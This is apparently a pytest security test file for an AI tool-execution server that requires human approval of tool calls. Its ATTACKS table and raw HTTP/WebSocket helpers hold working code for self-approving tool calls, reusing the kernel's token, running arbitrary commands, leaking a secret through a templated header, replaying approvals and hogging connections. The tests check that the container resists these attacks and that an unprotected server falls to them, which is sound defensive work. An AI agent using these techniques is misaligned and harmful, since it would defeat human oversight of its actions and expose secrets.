# SPDX-License-Identifier: Apache-2.0
"""What hostile code in a kernel tries against the approval of tool calls.

Each attack is a function of ports and tokens alone. It is run against the container, where it must
fail, and against the Python system's own tool server, where it must succeed: an attack that works
nowhere proves nothing.
"""

from __future__ import annotations

import asyncio
import json
import subprocess
import sys
import textwrap
import time
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
from box import GUARD, INSIDE, Box, own_port
from mcpygen.tool_exec.approval.client import ApprovalClient, ApprovalRequest
from mcpygen.tool_exec.server import ToolServer
from tool_box import ToolBox, install, tool_box

pytestmark = pytest.mark.anyio

REGISTERED = {
    "command": "python3",
    "args": ["/peer/demo_server.py"],
    "env": {"PYTHONPATH": f"{INSIDE}/site"},
}

# What code in a kernel can do without a library of the system under attack: HTTP and WebSocket
# by hand.
WEAPONS = textwrap.dedent(
    '''
    import base64, json, os, socket, struct, sys, threading, time, urllib.error, urllib.request

    def http(method, path, body=None, headers=None):
        request = urllib.request.Request(f"http://127.0.0.1:{PORT}{path}", method=method,
            data=None if body is None else json.dumps(body).encode(),
            headers={"Content-Type": "application/json", **(headers or {})})
        try:
            with urllib.request.urlopen(request, timeout=40) as answer:
                return answer.status, answer.read().decode()
        except urllib.error.HTTPError as error:
            return error.code, error.read().decode()

    def run(server, params, tool, args, headers=None):
        return http("POST", "/run", {"server_name": server, "server_params": params,
                                     "tool_name": tool, "tool_args": args}, headers)

    def seat(headers=""):
        """Take the approver's seat: the socket, or None."""
        s = socket.create_connection(("127.0.0.1", PORT), 10)
        s.sendall((f"GET /approval HTTP/1.1\\r\\nHost: 127.0.0.1:{PORT}\\r\\n"
                   f"Upgrade: websocket\\r\\n"
                   "Connection: Upgrade\\r\\nSec-WebSocket-Version: 13\\r\\n"
                   f"Sec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\\r\\n{headers}\\r\\n").encode())
        head = b""
        while b"\\r\\n\\r\\n" not in head:
            data = s.recv(1)
            if not data:
                return None
            head += data
        return s if b" 101 " in head.split(b"\\r\\n")[0] else None

    def receive(s):
        first, size = s.recv(2)
        size &= 127
        if size == 126:
            size = struct.unpack("!H", s.recv(2))[0]
        data = b""
        while len(data) < size:
            data += s.recv(size - len(data))
        return data

    def send(s, text):
        data, mask = text.encode(), b"\\1\\2\\3\\4"
        size = bytes([128 | len(data)])
        if len(data) >= 126:
            size = bytes([254]) + struct.pack("!H", len(data))
        s.sendall(b"\\x81" + size + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(data)))

    def approve_own(s):
        def work():
            try:
                while True:
                    request = json.loads(receive(s))
                    send(s, json.dumps({"jsonrpc": "2.0", "result": True, "id": request["id"]}))
            except Exception:
                pass
        threading.Thread(target=work, daemon=True).start()
    '''
)

# name -> code that prints "GOT IT" when the attack succeeds. DEMO: the registered parameters.
ATTACKS = {
    "self-approval": """
        s = seat()
        if s:
            approve_own(s)
            status, body = run("demo", DEMO, "shout-it", {"text": "got it"})
            print(json.loads(body).get("result"))
    """,
    "self-approval with the kernel's own token": """
        token = os.environ.get("IPYBOX_TOOL_TOKEN", "none")
        basic = base64.b64encode(f"x:{token}".encode()).decode()
        for header in ("", f"Authorization: Bearer {token}\\r\\n",
                       f"Authorization: Basic {basic}\\r\\n"):
            s = seat(header)
            if s:
                approve_own(s)
                status, body = run("demo", DEMO, "shout-it", {"text": "got it"},
                                   {"Authorization": f"Bearer {token}"})
                print(json.loads(body).get("result"))
                break
    """,
    "a command of one's own": """
        evil = {"command": "python3", "args": ["-c", "open('MARK', 'w').write('x')"]}
        s = seat()
        if s:
            approve_own(s)
        token = os.environ.get("IPYBOX_TOOL_TOKEN", "none")
        for headers in ({}, {"Authorization": f"Bearer {token}"}):
            try:
                run("evil", evil, "x", {}, headers)
            except OSError:
                pass
        time.sleep(0.5)
        print("GOT IT" if os.path.exists("MARK") else "no")
    """,
    "other parameters for a known server": """
        evil = {"command": "python3", "args": ["-c", "open('MARK', 'w').write('x')"]}
        s = seat()
        if s:
            approve_own(s)
        http("PUT", "/reset")
        token = os.environ.get("IPYBOX_TOOL_TOKEN", "none")
        for headers in ({}, {"Authorization": f"Bearer {token}"}):
            try:
                run("demo", evil, "shout-it", {"text": "x"}, headers)
            except OSError:
                pass
        time.sleep(0.5)
        print("GOT IT" if os.path.exists("MARK") else "no")
    """,
    "a secret by a header of one's own": """
        import http.server
        seen = []
        class Catch(http.server.BaseHTTPRequestHandler):
            def do_POST(self):
                seen.append(str(self.headers))
                self.send_error(500)
            do_GET = do_POST
            def log_message(self, *args): pass
        catcher = http.server.HTTPServer(("127.0.0.1", 0), Catch)
        threading.Thread(target=catcher.serve_forever, daemon=True).start()
        params = {"url": f"http://127.0.0.1:{catcher.server_port}/mcp",
                  "headers": {"X-Leak": "${SERVER_SECRET}"}}
        del http
        s = seat()
        if s:
            approve_own(s)
        token = os.environ.get("IPYBOX_TOOL_TOKEN", "none")
        import urllib.request
        for headers in ({}, {"Authorization": f"Bearer {token}"}):
            body = {"server_name": "leak", "server_params": params, "tool_name": "x",
                    "tool_args": {}}
            request = urllib.request.Request(f"http://127.0.0.1:{PORT}/run", method="POST",
                data=json.dumps(body).encode(),
                headers={"Content-Type": "application/json", **headers})
            try:
                urllib.request.urlopen(request, timeout=40).read()
            except OSError:
                pass
        print("GOT IT" if "hush-hush" in "".join(seen) else "no")
    """,
    "the seat before the human": """
        s = seat()
        print("GOT IT" if s else "no")
        if s:
            globals().setdefault("kept", []).append(s)
    """,
    "a reset of everybody's servers": """
        status, body = http("PUT", "/reset")
        token = os.environ.get("IPYBOX_TOOL_TOKEN", "none")
        other, _ = http("PUT", "/reset", headers={"Authorization": f"Bearer {token}"})
        print("GOT IT" if 200 in (status, other) else "no")
    """,
}


def weapon(name: str, port: int, demo: dict[str, Any], mark: str) -> str:
    code = textwrap.dedent(ATTACKS[name]).replace("MARK", mark)
    return f"PORT = {port}\nDEMO = {demo!r}\n{WEAPONS}\n{code}"


# --- against the container ---


@pytest.fixture(scope="module")
def victim(shared_box: Box) -> Iterator[ToolBox]:
    install(shared_box, "mcp==1.30.0")
    (shared_box.workspace / ".env").write_text("SERVER_SECRET=hush-hush\n")
    with tool_box(shared_box, "--approve-tool-calls", "--approval-timeout", "15") as it:
        assert "shout_it" in it.tool(
            "register_mcp_server", server_name="demo", server_params=REGISTERED
        )
        yield it


@asynccontextmanager
async def human(it: ToolBox) -> AsyncIterator[list[ApprovalRequest]]:
    """A human who says no to everything."""
    seen: list[ApprovalRequest] = []

    async def refuse(request: ApprovalRequest) -> None:
        seen.append(request)
        await request.reject()

    async with ApprovalClient(callback=refuse, host=it.as_approver, port=it.port):
        yield seen


@pytest.mark.parametrize("name", ATTACKS)
@pytest.mark.parametrize("watched", [True, False], ids=["a human there", "nobody there"])
async def test_the_container_withstands(
    victim: ToolBox, shared_box: Box, name: str, watched: bool
) -> None:
    mark = f"{INSIDE}/mark-{time.monotonic_ns()}"
    code = weapon(name, victim.port, REGISTERED, mark)
    if watched:
        async with human(victim):
            text = await asyncio.to_thread(victim.cell, code)
    else:
        text = await asyncio.to_thread(victim.cell, code)
    assert "GOT IT" not in text
    assert not (shared_box.workspace / Path(mark).name).exists()
    # It still serves the human and those who ask.
    async with human(victim) as seen:
        call = "from mcptools.demo import shout_it as s; s.run(s.Params(text='x'))"
        assert "ApprovalRejectedError" in await asyncio.to_thread(victim.cell, call)
    assert [r.tool_name for r in seen] == ["shout-it"]


async def test_a_slot_hog_keeps_nobody_out(victim: ToolBox) -> None:
    """Hundreds of half-open connections, and silent ones on the kernels' socket."""
    code = """
        import socket, os
        hogs = []
        for i in range(300):
            try:
                s = socket.create_connection(("127.0.0.1", PORT), 2)
                s.sendall(b"POST /run HTTP/1.1\\r\\nContent-Length: 100000\\r\\n")
                hogs.append(s)
            except OSError:
                break
        for i in range(300):
            try:
                s = socket.socket(socket.AF_UNIX)
                s.settimeout(2)
                s.connect(os.environ["IPYBOX_TOOL_SOCKET"])
                hogs.append(s)
            except OSError:
                break
        print(len(hogs) > 100)
    """
    text = await asyncio.to_thread(victim.cell, f"PORT = {victim.port}\n{textwrap.dedent(code)}")
    assert text == "True"
    async with human(victim) as seen:
        call = "from mcptools.demo import shout_it as s; s.run(s.Params(text='x'))"
        assert "ApprovalRejectedError" in await asyncio.to_thread(victim.cell, call)
    assert len(seen) == 1
    await asyncio.to_thread(victim.cell, "del hogs")


async def test_another_kernels_token_is_worth_nothing_after_its_end(victim: ToolBox) -> None:
    token = await asyncio.to_thread(
        victim.cell, "import os; print(os.environ['IPYBOX_TOOL_TOKEN'])"
    )
    assert len(token) == 64
    victim.tool("reset")
    body = {"server_name": "demo", "server_params": REGISTERED, "tool_name": "x", "tool_args": {}}
    status, _ = await asyncio.to_thread(victim.http, "POST", "/run", body, token)
    assert status in (401, 429)  # the attacks before it have used up the patience of the guard


async def test_an_answer_that_was_not_asked_for_approves_nothing(victim: ToolBox) -> None:
    """Replay: the id of a question that was answered means nothing for the next one."""
    import websockets

    uri = f"ws://{victim.as_approver}:{victim.port}/approval"
    call = "from mcptools.demo import shout_it as s; print(s.run(s.Params(text='a')))"
    async with websockets.connect(uri) as socket:
        first = asyncio.create_task(asyncio.to_thread(victim.cell, call))
        request = json.loads(await asyncio.wait_for(socket.recv(), GUARD))
        answer = json.dumps({"jsonrpc": "2.0", "result": True, "id": request["id"]})
        await socket.send(answer)
        assert await first == "A"
        second = asyncio.create_task(asyncio.to_thread(victim.cell, call))
        again = json.loads(await asyncio.wait_for(socket.recv(), GUARD))
        assert again["id"] != request["id"]
        await socket.send(answer)  # the old id
        assert "ApprovalTimeoutError" in await second


# --- the proof that the attacks work ---


@pytest.mark.parametrize(
    "name",
    [
        "self-approval",
        "a command of one's own",
        "other parameters for a known server",
        "a secret by a header of one's own",
        "the seat before the human",
        "a reset of everybody's servers",
    ],
)
async def test_the_python_system_falls(
    name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SERVER_SECRET", "hush-hush")
    port = own_port()
    demo = {"command": sys.executable, "args": [str(Path(__file__).with_name("demo_server.py"))]}
    code = weapon(name, port, demo, str(tmp_path / "mark"))
    async with ToolServer(port=port, approval_required=True, log_level="ERROR"):
        done = await asyncio.to_thread(
            subprocess.run,
            [sys.executable, "-c", code],
            capture_output=True,
            timeout=GUARD,
            check=False,
        )
    assert b"GOT IT" in done.stdout, (done.stdout, done.stderr)
